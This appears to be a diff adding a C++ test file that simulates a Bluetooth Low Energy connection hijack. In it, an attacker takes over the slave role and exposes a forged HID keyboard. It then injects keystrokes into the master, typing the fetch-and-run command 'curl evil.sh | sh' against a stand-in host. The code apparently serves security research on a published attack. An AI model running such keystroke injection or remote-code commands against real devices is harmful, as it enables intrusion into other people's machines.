@@ -1,0 +1,97 @@
+// The paper's future work (§IX), implemented: after hijacking the Slave role
+// the attacker "transmit[s] an ATT notification ... expose[s] a malicious
+// keyboard profile instead of the original one, and inject[s] keystrokes to
+// the Master by implementing HID over GATT".
+#include <gtest/gtest.h>
+
+#include "attack_world.hpp"
+#include "core/scenarios.hpp"
+#include "gatt/builder.hpp"
+
+namespace injectable {
+namespace {
+
+using namespace ble;
+using test::AttackWorld;
+
+template <typename Pred>
+bool run_until(AttackWorld& world, Duration budget, Pred pred) {
+    const TimePoint deadline = world.scheduler.now() + budget;
+    while (world.scheduler.now() < deadline && !pred()) {
+        if (!world.scheduler.run_one()) break;
+    }
+    return pred();
+}
+
+TEST(HidInjectionTest, KeystrokesReachTheMasterAfterSlaveHijack) {
+    AttackWorld world;
+    const auto sniffed = world.establish_and_sniff();
+    ASSERT_TRUE(sniffed.has_value());
+    AttackSession session(*world.attacker, *sniffed);
+    session.start();
+    world.run_for(300_ms);
+
+    // The attacker's forged device is a HID keyboard.
+    att::AttServer fake;
+    gatt::HidKeyboardProfile keyboard;
+    keyboard.install(fake, "Hacked Keyboard");
+
+    ScenarioB scenario(session, fake);
+    std::optional<ScenarioB::Result> result;
+    scenario.execute([&](const ScenarioB::Result& r) { result = r; });
+    ASSERT_TRUE(run_until(world, 60_s, [&] { return result.has_value(); }));
+    ASSERT_TRUE(result->success);
+    world.run_for(500_ms);
+    ASSERT_TRUE(world.central->connected()) << "master must not notice the swap";
+
+    // The master-side host types out whatever HID reports arrive.
+    std::string typed;
+    world.central->gatt().on_notification = [&](std::uint16_t handle, const Bytes& value) {
+        if (handle != keyboard.report_handle()) return;
+        const char c = gatt::HidKeyboardProfile::decode_report(value);
+        if (c != 0) typed.push_back(c);
+    };
+
+    // Attacker "types" a command, key press + release per character.
+    const std::string payload = "curl evil.sh | sh\n";
+    for (char c : payload) {
+        scenario.hijacked_slave()->notify(keyboard.report_handle(),
+                                          gatt::HidKeyboardProfile::key_press_report(c));
+        scenario.hijacked_slave()->notify(keyboard.report_handle(),
+                                          gatt::HidKeyboardProfile::key_release_report());
+    }
+    ASSERT_TRUE(run_until(world, 10_s, [&] { return typed.size() >= payload.size(); }))
+        << "typed so far: \"" << typed << "\"";
+    EXPECT_EQ(typed, payload);
+}
+
+TEST(HidInjectionTest, MasterCanDiscoverTheForgedReportMap) {
+    AttackWorld world;
+    const auto sniffed = world.establish_and_sniff();
+    ASSERT_TRUE(sniffed.has_value());
+    AttackSession session(*world.attacker, *sniffed);
+    session.start();
+    world.run_for(300_ms);
+
+    att::AttServer fake;
+    gatt::HidKeyboardProfile keyboard;
+    keyboard.install(fake);
+    ScenarioB scenario(session, fake);
+    std::optional<ScenarioB::Result> result;
+    scenario.execute([&](const ScenarioB::Result& r) { result = r; });
+    ASSERT_TRUE(run_until(world, 60_s, [&] { return result.has_value(); }));
+    ASSERT_TRUE(result->success);
+    world.run_for(500_ms);
+
+    // A host re-enumerating the "device" now finds a keyboard descriptor.
+    std::optional<Bytes> report_map;
+    world.central->gatt().read(keyboard.report_map_handle(),
+                               [&](std::optional<Bytes> v) { report_map = std::move(v); });
+    ASSERT_TRUE(run_until(world, 5_s, [&] { return report_map.has_value(); }));
+    ASSERT_GE(report_map->size(), 4u);
+    EXPECT_EQ((*report_map)[0], 0x05);  // Usage Page (Generic Desktop)
+    EXPECT_EQ((*report_map)[2], 0x09);  // Usage (Keyboard)
+}
+
+}  // namespace
+}  // namespace injectable
